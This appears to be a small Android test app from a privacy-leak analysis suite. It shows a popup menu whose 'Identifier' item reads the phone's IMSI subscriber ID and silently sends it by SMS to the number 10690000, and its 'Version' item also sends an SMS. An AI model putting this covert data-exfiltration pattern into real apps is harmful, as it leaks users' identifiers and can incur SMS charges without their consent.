package cn.privlens.suite.popup_menu_copies_number;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.MenuItem;
import android.view.View;
import android.widget.Button;
import android.widget.PopupMenu;

public class Main extends Activity implements PopupMenu.OnMenuItemClickListener {
    private static final int VERSION = 1;
    private static final int IDENTIFIER = 2;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button more = new Button(this);
        more.setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                open(view);
            }
        });
        setContentView(more);
    }

    private void open(View anchor) {
        PopupMenu menu = new PopupMenu(this, anchor);
        menu.getMenu().add(0, VERSION, 0, "Version");
        menu.getMenu().add(0, IDENTIFIER, 1, "Identifier");
        menu.setOnMenuItemClickListener(this);
        menu.show();
    }

    @Override
    public boolean onMenuItemClick(MenuItem item) {
        switch (item.getItemId()) {
            case VERSION:
                tell("version 3");
                return true;
            case IDENTIFIER:
                tell("id " + identifier());
                return true;
            default:
                return false;
        }
    }

    private String identifier() {
        return ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
    }

    private void tell(String text) {
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
